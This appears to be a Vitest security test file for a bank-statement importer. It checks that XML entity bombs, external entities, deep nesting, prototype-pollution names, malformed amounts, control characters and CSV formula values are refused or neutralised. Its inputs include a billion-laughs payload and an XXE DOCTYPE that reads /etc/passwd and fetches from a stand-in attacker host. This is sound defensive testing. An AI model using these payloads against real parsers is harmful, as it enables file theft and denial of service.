/** Files made to harm (T65, T66, T68). Each either imports what it says or fails with an ImportError, in bounded work. */

import { expect, test } from 'vitest';
import { ImportError } from './failure.ts';
import { readFile, type Reading } from './read.ts';

const read = (text: string): Reading => readFile(new TextEncoder().encode(text), {}, { currency: 'EUR' });

function failure(text: string): ImportError {
	try {
		read(text);
	} catch (error) {
		if (error instanceof ImportError) return error;
		throw error;
	}
	throw new Error('it was read');
}

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
	{ length: 9 },
	(_, n) => `<!ENTITY lol${n + 1} "${`&lol${n || ''};`.repeat(10)}">`
).join('')}]>`;
const camt = (entry: string, before = ''): string => `<?xml version="1.0"?>${before}<Document
xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.02"><BkToCstmrStmt><Stmt>${entry}</Stmt></BkToCstmrStmt></Document>`;
const entry = (words: string): string => `<Ntry><Amt Ccy="EUR">1.00</Amt><CdtDbtInd>CRDT</CdtDbtInd><Sts>BOOK</Sts>
<BookgDt><Dt>2024-01-02</Dt></BookgDt><AddtlNtryInf>${words}</AddtlNtryInf></Ntry>`;
const ofx = (name: string, before = ''): string => `OFXHEADER:100\n\n${before}<OFX><STMTRS><CURDEF>EUR<BANKTRANLIST>
<STMTTRN><DTPOSTED>20240102<TRNAMT>1.00<NAME>${name}</STMTTRN></BANKTRANLIST></STMTRS></OFX>`;

test('T66 [FN-130] billion laughs and external entities: a document type is refused before any of it is used', () => {
	const external =
		'<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "http://evil.example/x">%dtd;]>';
	for (const doctype of [LAUGHS, external, '<!DOCTYPE x>']) {
		expect(failure(camt(entry('&lol9;&file;'), doctype)).reason).toBe('DOCTYPE');
		expect(failure(ofx('&lol9;&file;', doctype)).reason).toBe('DOCTYPE');
	}
	expect(failure(ofx('x', '<!ENTITY a "b">')).reason).toBe('DOCTYPE');
});

test('T66 [FN-130] without a document type an unknown entity is words, or breaks the file: it is never looked up', () => {
	expect(read(ofx('&file; &amp; &#0; &#xd800; &#x41;')).statements[0]!.entries[0]!.payee).toBe(
		'&file; & &#0; &#xd800; A'
	);
	expect(failure(camt(entry('&file;'))).reason).toBe('BROKEN');
	expect(failure(camt(entry('&#xd800;'))).reason).toBe('BROKEN');
});

test('T66 [FN-131] 100,000 elements in each other are refused, in any format that has elements', () => {
	const deep = 100_000;
	expect(failure(camt('<a>'.repeat(deep))).reason).toBe('TOO_DEEP');
	expect(failure(camt(entry('<a>'.repeat(deep) + '</a>'.repeat(deep)))).reason).toBe('TOO_DEEP');
	// Without known aggregates there is no depth; with all of them in each other it is bounded by their number.
	expect(failure('<OFX>' + '<A>'.repeat(deep)).reason).toMatch(/NO_STATEMENT|BROKEN/);
	expect(failure('<OFX>' + '<STMTRS><STMTTRN><PAYEE>'.repeat(deep)).reason).toMatch(/CURRENCY|DATE|BROKEN/);
	expect(failure('!Type:Bank\n' + 'S\n$\n'.repeat(deep) + '^\n').reason).toMatch(/DATE/);
});

test('T66 [FN-131] a million empty elements, attributes or unclosed comments do not fill the memory', () => {
	const many = '<a/>'.repeat(1_200_000);
	expect(failure(camt(many)).reason).toBe('TOO_MANY');
	const attributes = Array.from({ length: 50_000 }, (_, n) => `b${n}="c"`).join(' ');
	expect(read(camt(`<a ${attributes}/>${entry('x')}`)).statements[0]!.entries).toHaveLength(1);
	expect(failure('<OFX>' + '<!--'.repeat(100_000)).reason).toMatch(/NO_STATEMENT|BROKEN/);
	expect(failure('<OFX>' + '<NAME>x'.repeat(200_000)).reason).toMatch(/NO_STATEMENT|BROKEN/);
	expect(failure('<OFX><NAME>' + '<![CDATA['.repeat(100_000)).reason).toMatch(/NO_STATEMENT|BROKEN/);
});

test('T68 [FN-132] names of the language’s own objects are words like others, in headers, tags, codes and accounts', () => {
	for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
		const csv = read(`Date,${name},Payee,Amount,Currency\n2024-01-05,x,${name},-1.50,EUR\n`);
		expect(csv.statements[0]!.entries[0]).toMatchObject({ payee: name, minor: -150 });
		expect(failure(`Date,Payee,Amount,Currency\n2024-01-05,x,-1.50,${name}\n`).reason).toBe('CURRENCY_UNKNOWN');
		expect(read(ofx(name)).statements[0]!.entries[0]!.payee).toBe(name);
		expect(failure(ofx('x').replace('<CURDEF>EUR', `<CURDEF>${name}`)).reason).toBe('CURRENCY_UNKNOWN');
		expect(
			read(ofx('x').replace('<DTPOSTED>', `<${name}>1<TRNTYPE>${name}<DTPOSTED>`)).statements[0]!.entries
		).toHaveLength(1);
		expect(read(`!Type:${name}\nNx\n^\n!Type:Bank\nD2024-01-05\nT1.00\n^\n`).statements[0]!.entries).toHaveLength(1);
		expect(read(camt(entry(name) + `<${name}>x</${name}>`)).statements[0]!.entries[0]!.memo).toBe(name);
		expect(failure(camt(entry('x').replace('Ccy="EUR"', `Ccy="${name}"`))).reason).toBe('CURRENCY_UNKNOWN');
		expect(({} as Record<string, unknown>)['x']).toBeUndefined();
	}
});

test('T68 [FN-132] no number of the language that is no amount is one: NaN, Infinity, exponents, hexadecimals', () => {
	for (const amount of [
		'NaN',
		'Infinity',
		'-Infinity',
		'1e5',
		'0x10',
		'1_000',
		'null',
		'undefined',
		'9'.repeat(400),
		'1'.repeat(100_000)
	]) {
		expect(failure(ofx('x').replace('<TRNAMT>1.00', `<TRNAMT>${amount}`)).reason).toMatch(/^AMOUNT/);
		expect(failure(camt(entry('x').replace('1.00', amount))).reason).toMatch(/^AMOUNT/);
		expect(failure(`!Type:Bank\nD2024-01-05\nT${amount}\n^\n`).reason).toMatch(/^AMOUNT/);
		expect(
			failure(`:20:x\n:25:1\n:60F:C240101EUR1,00\n:61:240101D${amount}NTRFNONREF\n:62F:C240101EUR0,00\n`).reason
		).toMatch(/^AMOUNT/);
	}
});

test('T68 [FN-133] control characters, half characters and marks that turn text round do not get into the ledger', () => {
	const payee = read(ofx('pay\u202eeur\u2066\0\x07\u001b[31m  x')).statements[0]!.entries[0]!.payee;
	expect(payee).toBe('payeur [31m x');
	// A revision that holds the six letters which JSON writes for NUL is none: a payer could keep a file from coming in.
	expect(read(ofx('a\\u0000b\\u00\\u000000\\\\u0000')).statements[0]!.entries[0]!.payee).not.toContain('\\u0000');
	const half = new Uint8Array(Buffer.from(ofx('a\ud800b'), 'utf16le'));
	expect(readFile(half, {}, { currency: 'EUR' }).statements[0]!.entries[0]!.payee.isWellFormed()).toBe(true);
	expect(read(ofx('x'.repeat(100_000))).statements[0]!.entries[0]!.payee).toHaveLength(1000);
	expect(failure(ofx('x').replace('20240102', '\u202e\x07' + 'x'.repeat(100_000))).message.length).toBeLessThan(200);
});

test('T65 [FN-134] what stands in a file as an apostrophe before a formula is the formula’s text, and no other is changed', () => {
	const payees = read(`Date,Payee,Amount\n2024-01-05,'=1+1,-1.50\n2024-01-06,'tis,-1.50\n2024-01-07,''@x,-1.50\n`);
	expect(payees.statements[0]!.entries.map(({ payee }) => payee)).toEqual(['=1+1', "'tis", "'@x"]);
});

test('T66 [FN-131] more rows than a lifetime has are refused in every format', () => {
	const many = 200_001;
	expect(failure('!Type:Bank\n' + '^\n'.repeat(10) + 'Tx\n^\n'.repeat(many)).reason).toBe('TOO_MANY');
	expect(failure('<OFX><STMTRS>' + '<STMTTRN></STMTTRN>'.repeat(many)).reason).toBe('TOO_MANY');
	expect(failure('a,2024-01-05,1.50\n'.repeat(many)).reason).toBe('TOO_MANY');
	expect(failure(':20:x\n:25:1\n' + ':61:\n'.repeat(many)).reason).toBe('TOO_MANY');
	expect(failure(camt('<Ntry/>'.repeat(many))).reason).toBe('TOO_MANY');
});
